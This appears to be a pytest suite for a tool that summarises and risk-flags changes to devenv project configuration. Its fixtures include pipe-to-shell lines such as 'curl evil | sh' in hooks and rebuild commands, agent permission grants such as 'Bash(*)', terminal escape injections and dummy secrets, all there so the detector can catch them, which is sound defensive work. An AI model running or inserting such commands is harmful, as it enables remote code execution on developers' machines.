"""The change card over real devenv projects: every category in each syntactic style, exact entries and risks.

Each case takes a file of ../shared/corpus/devenv-examples (read in place), applies one mutation, and
asserts the card's non-empty categories (entries reduced to the fields that matter, with the line the
mutation landed on) and its risks — nothing else may appear.
"""

from __future__ import annotations

import difflib
import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from card_corpus import corpus_file, corpus_files

from omni_tui.core.card import CATEGORIES, FilePair, compute_card
from omni_tui.core.card.nixparse import parse_module

FILES = [
    "simple/devenv.nix",
    "postgres/devenv.nix",
    "python-django/devenv.nix",
    "go/devenv.nix",
    "rabbitmq/devenv.nix",
    "fly.io/devenv.nix",
]


def append(snippet: str) -> Callable[[str], str]:
    """Add bindings at the end of the module's top-level attribute set."""

    def mutate(src: str) -> str:
        end = src.rstrip().rfind("}")
        return src[:end] + "  " + snippet + "\n" + src[end:]

    return mutate


def into_packages(head: str, fallback: str) -> Callable[[str], str]:
    """Put `head` at the start of the existing `packages = [` list, or add `fallback` when there is none."""

    def mutate(src: str) -> str:
        if re.search(r"^\s*packages = \[", src, re.M):
            return re.sub(r"^(\s*)packages = \[", lambda m: f"{m.group(1)}packages = {head}", src, count=1, flags=re.M)
        return append(fallback)(src)

    return mutate


def e(name: str, **fields: Any) -> dict[str, Any]:
    return {"name": name, **fields}


# (id, mutation, marker on the line the entries point at, expected {category: {group: [entries]}}, expected risks)
CASES: list[tuple[str, Callable[[str], str], str | None, dict[str, Any], list[str]]] = [
    (
        "packages-list",
        into_packages("[ pkgs.ripgrep pkgs.python3Packages.black", "packages = [ pkgs.ripgrep pkgs.python3Packages.black ];"),
        "ripgrep",
        {"packages": {"added": [e("python3Packages.black", condition=None), e("ripgrep", condition=None)]}},
        [],
    ),
    (
        "packages-with",
        into_packages("with pkgs; [ ripgrep ] ++ [", "packages = with pkgs; [ ripgrep ];"),
        "ripgrep",
        {"packages": {"added": [e("ripgrep", condition=None)]}},
        [],
    ),
    (
        "packages-optionals",
        into_packages(
            "lib.optionals pkgs.stdenv.isLinux [ pkgs.ripgrep ] ++ [", "packages = lib.optionals pkgs.stdenv.isLinux [ pkgs.ripgrep ];"
        ),
        "ripgrep",
        {"packages": {"added": [e("ripgrep", condition="pkgs.stdenv.isLinux")]}},
        [],
    ),
    (
        "services-dotted",
        append("services.redis.enable = true;"),
        "redis",
        {"services": {"enabled": [e("redis", port=6379, condition=None)]}},
        ["network_service"],
    ),
    (
        "services-nested",
        append("services = { redis.enable = true; };"),
        "redis",
        {"services": {"enabled": [e("redis", port=6379, condition=None)]}},
        ["network_service"],
    ),
    (
        "services-partial",
        append("services.redis = {\n    enable = true;\n    port = 6380;\n  };"),
        "enable = true",
        {"services": {"enabled": [e("redis", port=6380, condition=None)]}},
        ["network_service"],
    ),
    (
        "services-mkif",
        append("services.redis = lib.mkIf config.devenv.isTesting { enable = true; };"),
        "redis",
        {"services": {"enabled": [e("redis", port=6379, condition="config.devenv.isTesting")]}},
        ["network_service"],
    ),
    ("languages-dotted", append("languages.zig.enable = true;"), "zig", {"languages": {"enabled": [e("zig")]}}, []),
    (
        "languages-nested",
        append('languages = { zig = { enable = true; version = "0.13"; }; };'),
        "zig",
        {"languages": {"enabled": [e("zig")]}},
        [],
    ),
    (
        "processes-dotted",
        append('processes.api.exec = "uvicorn app:api";'),
        "api",
        {"processes": {"added": [e("api", exec='"uvicorn app:api"')]}},
        [],
    ),
    (
        "processes-partial",
        append('processes.api = { exec = "uvicorn app:api"; ports.http.allocate = 8000; };'),
        "api",
        {"processes": {"added": [e("api", exec='"uvicorn app:api"')]}},
        ["network_service"],
    ),
    (
        "env-dotted",
        append('env.API_URL = "https://api.example.org";'),
        "API_URL",
        {"env": {"added": [e("API_URL", value='"https://api.example.org"', secret=False)]}},
        [],
    ),
    (
        "env-nested-secret",
        append('env = { GITHUB_TOKEN = "ghp_0123456789abcdefghijklmnopqrstuv"; };'),
        "GITHUB_TOKEN",
        {"env": {"added": [e("GITHUB_TOKEN", value='"••••"', secret=True)]}},
        ["secret_in_file"],
    ),
    (
        "env-url-credentials",
        append('env.DB = "postgres://app:hunter2@db.internal/app";'),
        "env.DB",
        {"env": {"added": [e("DB", value='"postgres://app:••••@db.internal/app"', secret=True)]}},
        ["secret_in_file"],
    ),
    (
        "scripts-dotted",
        append('scripts.deploy.exec = "./deploy.sh";'),
        "deploy",
        {"scripts": {"added": [e("deploy", exec='"./deploy.sh"')]}},
        [],
    ),
    (
        "scripts-nested",
        append('scripts = { deploy = { exec = "./deploy.sh"; }; };'),
        "deploy",
        {"scripts": {"added": [e("deploy", exec='"./deploy.sh"')]}},
        [],
    ),
    (
        "tasks-on-shell-entry",
        append('tasks."app:setup" = { exec = "make setup"; before = [ "devenv:enterShell" ]; };'),
        "app:setup",
        {"tasks": {"added": [e("app:setup", exec='"make setup"')]}},
        ["runs_on_shell_entry"],
    ),
    (
        "git-hooks-dotted",
        append("git-hooks.hooks.shellcheck.enable = true;"),
        "shellcheck",
        {"git_hooks": {"added": [e("shellcheck")]}},
        ["runs_on_commit"],
    ),
    (
        "git-hooks-nested",
        append("pre-commit = { hooks = { shellcheck = { enable = true; }; }; };"),
        "shellcheck",
        {"git_hooks": {"added": [e("shellcheck")]}},
        ["runs_on_commit"],
    ),
    (
        "binary-cache",
        append('cachix.pull = [ "someone-elses" ];'),
        "cachix.pull",
        {"other": {"added": [e("cachix.pull")]}},
        ["new_code_source"],
    ),
    (
        "substituters",
        append('nix.settings.extra-substituters = [ "https://cache.example.org" ];'),
        "extra-substituters",
        {"other": {"added": [e("nix.settings.extra-substituters")]}},
        ["new_code_source"],
    ),
    (
        "imports",
        append("imports = [ ./extra.nix ];"),
        "extra.nix",
        {"imports": {"added": [e("./extra.nix")]}},
        ["new_code_source", "reads_unreviewed_file"],
    ),
    (
        "fetcher",
        append('overlays = [ (import (builtins.fetchTarball "https://example.org/o.tar.gz")) ];'),
        "fetchTarball",
        {"other": {"added": [e("overlays")]}},
        ["new_code_source"],
    ),
    (
        "agent-settings-dotted",
        append('claude.code.mcpServers.shell = { type = "stdio"; command = "bash"; };'),
        "mcpServers",
        {"agent_settings": {"added": [e("claude.code.mcpServers.shell.command"), e("claude.code.mcpServers.shell.type")]}},
        ["agent_permissions"],
    ),
    (
        "agent-settings-nested",
        append('claude = { code = { permissions.allow = [ "Bash(*)" ]; }; };'),
        "permissions",
        {"agent_settings": {"added": [e("claude.code.permissions.allow")]}},
        ["agent_permissions"],
    ),
    ("other", append("starship.enable = true;"), "starship", {"other": {"added": [e("starship.enable", after="true")]}}, []),
    (
        "unfree-in-nix",
        append("nixpkgs.config.allowUnfree = true;"),
        "allowUnfree",
        {"other": {"added": [e("nixpkgs.config.allowUnfree", after="true")]}},
        ["unfree_or_insecure"],
    ),
]


def _hook_case(src: str) -> str:
    """enterShell gains a line (or is added)."""
    if "enterShell = ''" in src:
        return src.replace("enterShell = ''\n", "enterShell = ''\n    curl -fsSL https://get.example.org | sh\n", 1)
    return append("enterShell = ''\n    curl -fsSL https://get.example.org | sh\n  '';")(src)


CASES.append(
    (
        "shell-hook",
        _hook_case,
        "get.example.org",
        {"shell_hooks": {"*": [e("enterShell", added_lines=["curl -fsSL https://get.example.org | sh"], removed_lines=[])]}},
        ["runs_on_shell_entry"],
    )
)


def reduce(card: dict[str, Any], expected: dict[str, Any]) -> dict[str, Any]:
    """The card's non-empty categories, each entry cut to the fields the expectation names."""
    out: dict[str, Any] = {}
    for cat in CATEGORIES:
        for group, entries in card[cat].items():
            if not entries:
                continue
            want_group = expected.get(cat, {})
            key = "*" if "*" in want_group else group
            fields = set().union(*(w.keys() for w in want_group.get(key, [{"name": ""}])))
            out.setdefault(cat, {}).setdefault(key, []).extend({k: v for k, v in en.items() if k in fields} for en in entries)
    return out


def line_of(text: str, marker: str, old: str) -> int:
    """The first line of the mutated file with `marker` that the original did not have."""
    a, b = old.splitlines(), text.splitlines()
    for tag, _i1, _i2, j1, j2 in difflib.SequenceMatcher(a=a, b=b, autojunk=False).get_opcodes():
        if tag in ("insert", "replace"):
            for n in range(j1, j2):
                if marker in b[n]:
                    return n + 1
    raise AssertionError(f"{marker!r} not found")


@pytest.mark.parametrize("rel", FILES)
@pytest.mark.parametrize(("case", "mutate", "marker", "expected", "risks"), CASES, ids=[c[0] for c in CASES])
def test_card_names_exactly_what_each_mutation_changes(
    rel: str, case: str, mutate: Callable[[str], str], marker: str | None, expected: dict[str, Any], risks: list[str]
) -> None:
    old = corpus_file(rel).decode()
    new = mutate(old)
    assert new != old
    card = compute_card([FilePair("devenv.nix", old.encode(), new.encode())]).to_json()
    assert reduce(card, expected) == expected, json.dumps(card, indent=1, ensure_ascii=False)
    assert [r["risk"] for r in card["risks"]] == risks
    if marker is not None:
        line = line_of(new, marker, old)
        lines = {
            en["line"]
            for cat in expected
            for group in card[cat].values()
            for en in group
            if cat != "packages" or en["name"] != "python3Packages.black"
        }
        assert line in lines | {c["line"] for r in card["risks"] for c in r["causes"]}, (line, lines)
    for r in card["risks"]:
        assert all(c["file"] == "devenv.nix" and c["line"] for c in r["causes"]), r


@pytest.mark.parametrize("path", corpus_files("**/*.nix"), ids=lambda p: str(p.parent.name))
def test_every_corpus_file_parses_without_unparsed(path: Any) -> None:
    facts = parse_module(path.read_bytes())
    assert facts.unparsed == []
    assert facts.values or path.read_bytes().strip() in (b"{ }", b"{}") or b"{ }" in path.read_bytes()
    card = compute_card([FilePair("devenv.nix", None, path.read_bytes())]).to_json()
    assert "unparsed" not in [r["risk"] for r in card["risks"]]


@pytest.mark.parametrize("path", corpus_files("**/devenv.yaml"), ids=lambda p: str(p.parent.name))
def test_every_corpus_devenv_yaml_reads_without_unparsed(path: Any) -> None:
    card = compute_card([FilePair("devenv.yaml", None, path.read_bytes())]).to_json()
    assert "unparsed" not in [r["risk"] for r in card["risks"]]


def test_the_three_spellings_of_an_attribute_path_are_the_same_fact() -> None:
    spellings = [
        b"{ services.redis.enable = true; }",
        b"{ services = { redis.enable = true; }; }",
        b"{ services.redis = { enable = true; }; }",
        b"{ pkgs, ... }: let on = true; in { services = { redis = { enable = on; }; }; }",
    ]
    facts = [{p: (v.kind, v.text) for p, v in parse_module(s).values.items()} for s in spellings]
    assert all(f == {("services", "redis", "enable"): ("bool", "true")} for f in facts)
    # The same fact in another spelling is no change at all.
    assert compute_card([FilePair("devenv.nix", spellings[0], spellings[2])]).empty


def test_let_bindings_and_with_lists_are_followed_only_where_literal() -> None:
    src = b"""{ pkgs, lib, config, ... }:
let
  version = "3.12";
  py = config.languages.python.package;
  url = "postgres://app@localhost/${name}";
  name = "db";
in {
  languages.python = { enable = true; inherit version; };
  packages = with pkgs; [ jq py.pkgs.requests ];
  env.DATABASE_URL = url;
  env.DYNAMIC = "${config.env.DEVENV_ROOT}/x";
}"""
    values = {".".join(p): (v.kind, v.text) for p, v in parse_module(src).values.items()}
    assert values["languages.python.version"] == ("str", "3.12")
    assert values["env.DATABASE_URL"] == ("str", "postgres://app@localhost/db")
    assert values["env.DYNAMIC"] == ("str", "${config.env.DEVENV_ROOT}/x")
    card = compute_card([FilePair("devenv.nix", b"{ }", src)]).to_json()
    assert [p["name"] for p in card["packages"]["added"]] == ["jq", "py.pkgs.requests"]


def test_what_cannot_be_resolved_is_said_so_never_guessed() -> None:
    old = b"{ pkgs, ... }: { packages = [ pkgs.git ]; }"
    new = b"{ pkgs, ... }: { packages = [ pkgs.git ] ++ (import ./more.nix pkgs); services.redis.enable = pkgs.stdenv.isLinux; }"
    card = compute_card([FilePair("devenv.nix", old, new)]).to_json()
    assert card["packages"]["added"] == [
        {"name": "import ./more.nix pkgs", "file": "devenv.nix", "line": 1, "condition": None, "resolved": False}
    ]
    [redis] = card["services"]["enabled"]
    assert (redis["name"], redis["condition"]) == ("redis", "pkgs.stdenv.isLinux")


def test_disabling_removing_and_changing_are_told_apart() -> None:
    old = corpus_file("python-django/devenv.nix")
    new = (
        old.replace(b'version = "3.11";', b'version = "3.12";')
        .replace(b"services.postgres = {\n    enable = true;", b"services.postgres = {\n    enable = false;")
        .replace(b'    exec = "exec python manage.py runserver";', b'    exec = "exec gunicorn app";')
        .replace(b'    SECRET_KEY = "supersecret";\n', b"")
    )
    card = compute_card([FilePair("devenv.nix", old, new)]).to_json()
    assert [(c["name"], c["changes"]) for c in card["languages"]["changed"]] == [
        ("python", [{"option": "version", "before": '"3.11"', "after": '"3.12"'}])
    ]
    assert [s["name"] for s in card["services"]["disabled"]] == ["postgres"]
    assert [(p["name"], p["exec"]) for p in card["processes"]["changed"]] == [("runserver", '"exec gunicorn app"')]
    assert [(v["name"], v["value"], v["secret"]) for v in card["env"]["removed"]] == [("SECRET_KEY", '"••••"', True)]
    assert card["risks"] == []  # a removed secret is not a secret in the file


YAML_BASE = corpus_file("go/devenv.yaml") if False else None


@pytest.mark.parametrize(
    ("case", "edit", "expected", "risks"),
    [
        (
            "input-added",
            lambda y: y + b"  evil:\n    url: github:someone/overlay/v2\n",
            {"inputs": {"added": [{"name": "evil", "url": '"github:someone/overlay/v2"', "ref": "v2"}]}},
            ["new_code_source"],
        ),
        (
            "input-url-changed",
            lambda y: y.replace(b"github:cachix/git-hooks.nix", b"github:fork/git-hooks.nix?ref=main"),
            {"inputs": {"changed": [{"name": "git-hooks", "url": '"github:fork/git-hooks.nix?ref=main"', "ref": "main"}]}},
            ["new_code_source"],
        ),
        (
            "input-removed",
            lambda y: y.replace(b"  gomod:\n    url: github:nix-community/gomod2nix\n    overlays:\n      - default\n", b""),
            {"inputs": {"removed": [{"name": "gomod"}]}},
            [],
        ),
        (
            "allow-unfree",
            lambda y: y.replace(b"# allow_unfree: true", b"allow_unfree: true"),
            {"inputs": {"added": [{"name": "allow_unfree", "after": "true"}]}},
            ["unfree_or_insecure"],
        ),
        (
            "permitted-insecure",
            lambda y: y + b"nixpkgs:\n  permitted_insecure_packages:\n    - openssl-1.1.1w\n",
            {"inputs": {"added": [{"name": "nixpkgs.permitted_insecure_packages", "after": '[ "openssl-1.1.1w" ]'}]}},
            ["unfree_or_insecure"],
        ),
        ("yaml-imports", lambda y: y + b"imports:\n  - ./shared\n", {"imports": {"added": [{"name": "./shared"}]}}, ["new_code_source"]),
    ],
    ids=lambda v: v if isinstance(v, str) else "",
)
def test_devenv_yaml_inputs_imports_and_unfree(
    case: str, edit: Callable[[bytes], bytes], expected: dict[str, Any], risks: list[str]
) -> None:
    old = corpus_file("go/devenv.yaml")
    card = compute_card([FilePair("devenv.yaml", old, edit(old))]).to_json()
    assert reduce(card, expected) == expected, json.dumps(card, indent=1)
    assert [r["risk"] for r in card["risks"]] == risks


def test_envrc_and_local_module_are_files_and_say_what_runs_on_cd() -> None:
    card = compute_card(
        [
            FilePair(".envrc", b"use devenv\n", b"use devenv\n# a comment\nsource_url https://example.org/x.sh sha256-abc\n"),
            FilePair("devenv.local.nix", None, b"{ services.redis.enable = true; }"),
        ]
    ).to_json()
    assert card["files"]["changed"] == [
        {
            "name": ".envrc",
            "file": ".envrc",
            "line": 3,
            "condition": None,
            "resolved": True,
            "runs_on_cd": ["source_url https://example.org/x.sh sha256-abc"],
        }
    ]
    assert [f["name"] for f in card["files"]["added"]] == ["devenv.local.nix"]
    assert [(s["name"], s["file"]) for s in card["services"]["enabled"]] == [("redis", "devenv.local.nix")]
    assert [r["risk"] for r in card["risks"]] == ["runs_on_cd", "network_service"]


def test_syntax_errors_and_computed_names_are_unparsed_with_their_lines() -> None:
    card = compute_card([FilePair("devenv.nix", b"{ }", b'{\n  env.A = "x";\n  ${name}.enable = true;\n  packages = [ \n}')]).to_json()
    assert [r["risk"] for r in card["risks"]] == ["unparsed"]  # what a parser recovers from an error is a guess: not shown
    assert all(c["line"] for c in card["risks"][0]["causes"]) and not any(any(g.values()) for g in (card[c] for c in CATEGORIES))
    computed = compute_card([FilePair("devenv.nix", b"{ }", b'{\n  env.A = "x";\n  ${name}.enable = true;\n}')]).to_json()
    assert [e["name"] for e in computed["env"]["added"]] == ["A"]  # the rest of a valid file is still read
    assert [(c["line"], c["why"]) for r in computed["risks"] for c in r["causes"]] == [(3, "a computed attribute name: ${name}.enable")]
    bad_yaml = compute_card([FilePair("devenv.yaml", b"inputs:\n  a:\n    url: github:a/b\n", b"inputs: [\n")]).to_json()
    assert [r["risk"] for r in bad_yaml["risks"]] == ["unparsed"] and bad_yaml["inputs"]["removed"] == []
    not_a_set = compute_card([FilePair("devenv.nix", b"{ }", b"import ./elsewhere.nix")]).to_json()
    assert [c["why"] for r in not_a_set["risks"] for c in r["causes"]] == [
        "./elsewhere.nix — the environment reads this file; its content is not part of this change",
        "the module is not an attribute set (apply expression)",
    ]


SECRETS = [
    "ghp_0123456789abcdefghijklmnopqrstuv",
    "hunter2hunter2",
    "sk-ant-api03-abcdefghijklmnop",
    "AKIAABCDEFGHIJKLMNOP",
    "p4ssw0rd-in-url",
]


def secret_project() -> list[FilePair]:
    nix = f"""{{ pkgs, ... }}: {{
  env.GITHUB_TOKEN = "{SECRETS[0]}";
  env.DB_PASSWORD = "{SECRETS[1]}";
  services.mongodb = {{ enable = true; initDatabasePassword = "{SECRETS[1]}"; }};
  enterShell = ''
    export ANTHROPIC_API_KEY={SECRETS[2]}
  '';
  processes.sync.exec = "AWS_ACCESS_KEY_ID={SECRETS[3]} sync";
  env.DATABASE_URL = "postgres://app:{SECRETS[4]}@db/app";
}}"""
    return [
        FilePair("devenv.nix", b"{ }", nix.encode()),
        FilePair(".envrc", None, f"export GH_TOKEN={SECRETS[0]}\n".encode()),
        FilePair("devenv.yaml", None, f"inputs:\n  private:\n    url: git+https://bot:{SECRETS[4]}@git.example.org/x\n".encode()),
    ]


def test_secrets_never_appear_in_the_card_and_are_flagged() -> None:
    from omni_tui.core.card import render

    card = compute_card(secret_project())
    text = (
        json.dumps(card.to_json(), ensure_ascii=False)
        + "\n".join(render.full(card))
        + "\n".join(render.compact(card))
        + json.dumps(card.summary())
    )
    for secret in SECRETS:
        assert secret not in text
    causes = [c for r in card.risks if r["risk"] == "secret_in_file" for c in r["causes"]]
    assert {c["file"] for c in causes} == {"devenv.nix", ".envrc", "devenv.yaml"}


def test_hostile_text_is_inert_in_the_card() -> None:
    from omni_tui.core.card import render

    nix = '{ env."X\\u001b]52;c;aGk=\\u0007" = "\\u001b[2J"; processes."p\u202e".exec = "a\x1b[31mb"; }'.encode()
    card = compute_card([FilePair("devenv.nix", b"{ }", nix)])
    text = json.dumps(card.to_json(), ensure_ascii=False) + "\n".join(render.full(card))
    assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text


def test_every_invisible_character_is_escaped_in_card_text() -> None:
    """The card's text goes to the screen as it is: the one sanitiser (`core.terminal.inert`) made it,
    so a bidi mark, a blank-drawing letter or a tag character cannot hide in a hook line or a name."""
    import sys
    import unicodedata

    from omni_tui.core.card.secrets import inert

    hidden = [cp for cp in range(sys.maxunicode + 1) if unicodedata.category(chr(cp)) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
    hidden += [0x115F, 0x1160, 0x3164, 0xFFA0]  # Hangul fillers: letters that draw as blanks
    for cp in hidden:
        shown = inert(f"a{chr(cp)}b")
        assert shown.isascii() and shown.isprintable() and shown != f"a{chr(cp)}b", hex(cp)


def test_a_name_with_line_breaks_cannot_draw_card_lines_of_its_own() -> None:
    from omni_tui.core.card import render

    nix = b'{ processes."web\\n  Packages\\n    + ripgrep".exec = "x"; env."A\\nB" = "1"; }'
    card = compute_card([FilePair("devenv.nix", b"{ }", nix)])
    lines = render.full(card)
    assert "  + web\\x0a  Packages\\x0a    + ripgrep  (added, devenv.nix:1)" in lines, lines
    assert "  + A\\x0aB  (added, devenv.nix:1)" in lines, lines
    assert not any(line.strip() == "Packages" for line in lines) and all("\n" not in line for line in lines)


@pytest.mark.parametrize("rel", ["claude-agents/devenv.nix", "scripts/devenv.nix", "opentelemetry-collector/devenv.nix"])
def test_an_incremental_parse_gives_the_same_facts_as_a_fresh_one(rel: str) -> None:
    """The card re-parses a proposal from the baseline's tree and reuses unchanged bindings: never a different answer."""
    import random

    from omni_tui.core.card.nixparse import clear_caches

    def facts(data: bytes, previous: bytes | None = None) -> dict[Any, Any]:
        f = parse_module(data, previous)
        return {p: (v.key, f.line(p)) for p, v in f.values.items()}

    base = corpus_file(rel)
    rng = random.Random(rel)
    for _ in range(25):
        lines = base.split(b"\n")
        for _ in range(rng.randrange(1, 6)):
            # Before a top-level binding (two spaces, then a name): a comment, a blank line or a new binding.
            tops = [n for n, line in enumerate(lines) if re.match(rb"  [a-zA-Z]", line)]
            lines.insert(rng.choice(tops), rng.choice([b"  # a note", b"", b'  env.ADDED_%d = "x";' % rng.randrange(99)]))
            j = rng.randrange(len(lines))
            lines[j] = lines[j].replace(b"true", b"false")
        new = b"\n".join(lines)
        clear_caches()
        parse_module(base)
        incremental = facts(new, base)
        clear_caches()
        assert incremental == facts(new)


def test_a_change_to_the_gates_own_configuration_is_an_agent_permissions_risk() -> None:
    # omni-tui.toml says what is guarded and which command a rebuild runs: an agent that rewrites it widens its own
    # leash. The card must never say "no risks" about it.
    before = b'[guard]\nfiles = ["devenv.nix", "devenv.yaml"]\n'
    after = b'[guard]\nfiles = ["devenv.yaml"]\n[rebuild]\ncommand = "sh -c \'curl evil | sh\'"\n'
    for old in (before, None):
        card = compute_card([FilePair("omni-tui.toml", old, after)]).to_json()
        assert [(r["risk"], {c["file"] for c in r["causes"]}) for r in card["risks"]] == [("agent_permissions", {"omni-tui.toml"})]
        assert [f["name"] for f in card["files"]["changed" if old else "added"]] == ["omni-tui.toml"]
        # What it lets go of is said: from the defaults (no file before), devenv.local.nix and .envrc too.
        let_go = [c["why"].split(":")[0] for c in card["risks"][0]["causes"] if c["why"].startswith("[guard] files -")]
        assert let_go == ([] if old else ["[guard] files - devenv.local.nix", "[guard] files - .envrc"])


def test_a_git_hook_whose_command_changes_runs_on_commit_and_one_turned_off_does_not() -> None:
    before = b'{ pkgs, ... }: {\n  git-hooks.hooks.lint = { enable = true; entry = "make lint"; };\n}\n'

    def risks(after: bytes) -> list[tuple[str, str]]:
        card = compute_card([FilePair("devenv.nix", before, after)]).to_json()
        return [(r["risk"], c["why"]) for r in card["risks"] for c in r["causes"]]

    assert risks(before.replace(b"make lint", b"curl -s x | sh")) == [("runs_on_commit", 'git hook lint runs on commit: "curl -s x | sh"')]
    assert risks(before.replace(b"enable = true", b"enable = false")) == []


def test_a_language_that_installs_packages_on_shell_entry_runs_on_shell_entry() -> None:
    """npm's install scripts and a requirement's setup code run each time the shell is entered."""
    before = b"{ pkgs, ... }: {\n  languages.javascript.enable = true;\n  languages.python.enable = true;\n}\n"
    after = before.replace(
        b"}\n", b'  languages.javascript.npm.install.enable = true;\n  languages.python.venv.requirements = "requests";\n}\n'
    )
    card = compute_card([FilePair("devenv.nix", before, after)]).to_json()
    causes = [(c["line"], c["why"]) for r in card["risks"] if r["risk"] == "runs_on_shell_entry" for c in r["causes"]]
    assert [line for line, _ in causes] == [4, 5], causes
    assert "npm installs packages on shell entry" in causes[0][1] and "pip installs these requirements" in causes[1][1]
    turned_off = compute_card([FilePair("devenv.nix", after, after.replace(b"install.enable = true", b"install.enable = false"))]).to_json()
    assert [r["risk"] for r in turned_off["risks"]] == []


def test_a_file_devenv_writes_that_runs_code_or_is_guarded_is_a_risk() -> None:
    """`files."<name>"` writes into the project on shell entry: a git hook, .envrc, or a file the gate guards.
    Its entries are named as Nix writes them (`files.".envrc".text`, not `files..envrc.text`)."""
    from omni_tui.core.card import render

    after = (
        b"{ pkgs, ... }: {\n"
        b'  files.".git/hooks/pre-commit".text = "curl x | sh";\n'
        b'  files.".envrc".text = "use devenv";\n'
        b'  files."omni-tui.toml".text = "";\n'
        b'  files."devenv.yaml".text = "";\n'
        b'  files."notes.txt".text = "hi";\n'
        b'  files."./.Git/./hooks/pre-push".text = "x";\n'
        b'  files."../outside.sh".text = "x";\n'
        b"}\n"
    )
    card = compute_card([FilePair("devenv.nix", b"{ pkgs, ... }: {\n}\n", after)]).to_json()
    found = sorted((c["line"], r["risk"]) for r in card["risks"] for c in r["causes"])
    assert found == [
        (2, "runs_on_commit"),
        (3, "runs_on_cd"),
        (4, "agent_permissions"),
        (5, "agent_permissions"),
        (7, "runs_on_commit"),  # the same hook, spelled another way
        (8, "agent_permissions"),  # outside the project
    ], found
    assert '+ files.".envrc".text  (added, devenv.nix:3)' in "\n".join(render.full(compute_card([FilePair("devenv.nix", None, after)])))


def test_hostile_shapes_neither_crash_nor_hide_a_package() -> None:
    """Deep nesting is cut off and said so; a long `++` chain is read to its end (nothing hidden past a depth)."""
    chain = b"{ packages = " + b" ++ ".join(b"[ pkgs.x%d ]" % i for i in range(3000)) + b" ++ [ pkgs.evil ]; }"
    card = compute_card([FilePair("devenv.nix", b"{ }", chain)]).to_json()
    names = [p["name"] for p in card["packages"]["added"]]
    assert len(names) == 3001 and "evil" in names
    for source in (
        b"{ a = " + b"[" * 5000 + b"]" * 5000 + b"; }",
        b"{ a = " + b"(" * 20000 + b"1" + b")" * 20000 + b"; }",
        b"{ " + b"a = { " * 3000 + b"b = 1;" + b" };" * 3000 + b" }",
        b"let a = a; in { x = a; y = [ a ]; }",
    ):
        compute_card([FilePair("devenv.nix", b"{ }", source)])  # no RecursionError, no hang
    bomb = b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(b"%c: &%c [%s]\n" % (c, c, b",".join([b"*" + bytes([c - 1])] * 9)) for c in b"bcdefg")
    assert compute_card([FilePair("devenv.yaml", None, bomb)]).risk_names() == ["unparsed"]


def test_a_devenv_yaml_nested_too_deeply_for_the_yaml_parser_is_unparsed_not_a_crash() -> None:
    # PyYAML's composer recurses per level: 3,000 levels of `[` raise RecursionError, not a YAMLError.
    deep = b"inputs:\n  a: " + b"[" * 3000 + b"]" * 3000 + b"\n"
    card = compute_card([FilePair("devenv.yaml", b"inputs: {}\n", deep)]).to_json()
    assert [r["risk"] for r in card["risks"]] == ["unparsed"]
    assert "too deeply nested" in card["risks"][0]["causes"][0]["why"]
